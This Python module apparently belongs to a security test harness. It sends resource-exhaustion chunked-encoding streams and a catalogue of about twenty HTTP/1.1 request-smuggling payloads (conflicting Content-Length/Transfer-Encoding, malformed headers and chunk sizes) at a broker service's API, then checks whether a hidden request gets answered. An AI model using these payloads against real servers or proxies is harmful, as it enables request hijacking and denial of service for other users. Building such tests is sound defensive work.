"""Attacks at the edges of HTTP/1.1 itself."""

from __future__ import annotations

import asyncio

from ..core.hand import FAILURES, Hand, Reached, Slot
from ..core.wire import Connection
from .registry import attack


@attack("broker", (64, 256), short=(8,))
async def tiny_chunks(hand: Hand) -> None:
    """Invented. Wants to send without end what a limit of 1 MiB doesn't count: chunks of one byte with extensions of
    kilobytes, chunk sizes with long runs of zeros, endless trailers after the last chunk."""
    head = b"POST /v1/token/validate HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    endless = (
        b"1;" + b"e" * 4000 + b"\r\n \r\n",
        b"1\r\n \r\n",
        b"1;e\r\n \r\n" * 500,
        b"0" * 14 + b"1\r\n \r\n",
    )
    trailers = b"0\r\n" + (b"X-T: " + b"t" * 1000 + b"\r\n") * 60

    async def one(slot: Slot) -> None:
        async with hand.connection("api", slot) as connection:
            answered = asyncio.create_task(_first_answer(hand, connection))
            try:
                kind = slot.number % 5
                await hand.send(connection, head + (trailers if kind == 4 else b""))
                unit = trailers[3:] if kind == 4 else endless[kind]
                unit *= max(1, 60_000 // len(unit))
                while not answered.done():
                    await hand.send(connection, unit)
            finally:
                answered.cancel()

    await hand.each(one)


async def _first_answer(hand: Hand, connection: Connection) -> None:
    try:
        await hand.answer(connection)
    except FAILURES:
        hand.reached.ended_by_server += 1


# A request that two readers can understand differently: for one of them the hidden request is a part of its body. A
# server that answers the hidden one after such a request lets strangers put requests into other people's connections
# behind a proxy that is the other reader.
_HIDDEN = b"GET /v1/challenge HTTP/1.1\r\nHost: a\r\nX-Request-ID: hidden\r\n\r\n"
_POST = b"POST /v1/token/validate HTTP/1.1\r\nHost: a\r\n"
_LENGTH = b"Content-Length: %d\r\n"


def _ambiguous() -> dict[str, bytes]:
    end = b"0\r\n\r\n"
    covers = _LENGTH % (len(end) + len(_HIDDEN))
    hidden = len(_HIDDEN)
    chunked = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
    return {
        "length and chunked": _POST + covers + b"Transfer-Encoding: chunked\r\n\r\n" + end + _HIDDEN,
        "chunked and length": _POST + b"Transfer-Encoding: chunked\r\n" + covers + b"\r\n" + end + _HIDDEN,
        "two lengths": _POST + _LENGTH % 0 + _LENGTH % hidden + b"\r\n" + _HIDDEN,
        "two lengths, the other way": _POST + _LENGTH % hidden + _LENGTH % 0 + b"\r\n" + _HIDDEN,
        "list of lengths": _POST + b"Content-Length: 0, %d\r\n\r\n" % hidden + _HIDDEN,
        "length with a sign": _POST + b"Content-Length: +%d\r\n\r\n" % hidden + _HIDDEN,
        "length with a space before the colon": _POST + b"Content-Length : %d\r\n\r\n" % hidden + _HIDDEN,
        "chunked with a space before the colon": _POST + covers + b"Transfer-Encoding : chunked\r\n\r\n" + end + _HIDDEN,
        "chunked with a tab": _POST + covers + b"Transfer-Encoding:\tchunked\r\n\r\n" + end + _HIDDEN,
        "chunked by another name": _POST + covers + b"Transfer-Encoding: xchunked\r\n\r\n" + end + _HIDDEN,
        "chunked, then identity": _POST + covers + b"Transfer-Encoding: chunked, identity\r\n\r\n" + end + _HIDDEN,
        "chunked in HTTP/1.0": (_POST + covers).replace(b"1.1", b"1.0")
        + b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n" + end + _HIDDEN,
        "folded header": _POST + covers + b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n" + end + _HIDDEN,
        "bare line feeds": _POST + covers + b"X: a\nTransfer-Encoding: chunked\r\n\r\n" + end + _HIDDEN,
        "bare carriage return": _POST + covers + b"X: a\rTransfer-Encoding: chunked\r\n\r\n" + end + _HIDDEN,
        "zero byte in a header": _POST + covers + b"X: a\x00Transfer-Encoding: chunked\r\n\r\n" + end + _HIDDEN,
        "chunk size beyond 64 bits": chunked + b"1" + b"0" * 16 + b"\r\n\r\n" + _HIDDEN,
        "chunk size with a sign": chunked + b"-0\r\n\r\n" + _HIDDEN,
        "chunk size as 0x0": chunked + b"0x0\r\n\r\n" + _HIDDEN,
        "extension with a line feed": chunked + b"0;a\nb\r\n\r\n" + _HIDDEN,
    }  # fmt: skip


def _smuggled(reached: Reached, _: dict[str, int]) -> list[str]:
    return sorted(name for name in reached.counts if name.startswith("smuggled"))


@attack("broker", (20, 20), short=(1,), full=(1,), judge=_smuggled, brief=True)
async def smuggled_requests(hand: Hand) -> None:
    """Invented. Wants a request of its own in somebody else's connection behind a proxy: requests whose end two readers
    see at different places."""
    cases = list(_ambiguous().items())

    async def one(slot: Slot) -> None:
        name, data = cases[slot.number % len(cases)]
        async with hand.connection("api", slot) as connection:
            await hand.send(connection, data)
            try:
                while True:
                    answer = await asyncio.wait_for(hand.answer(connection), 1)
                    if answer.headers.get("x-request-id") == "hidden":
                        hand.reached.counts[f"smuggled by {name}"] += 1
                        break
            except FAILURES:
                pass
            await asyncio.sleep(0.5)

    await hand.each(one)
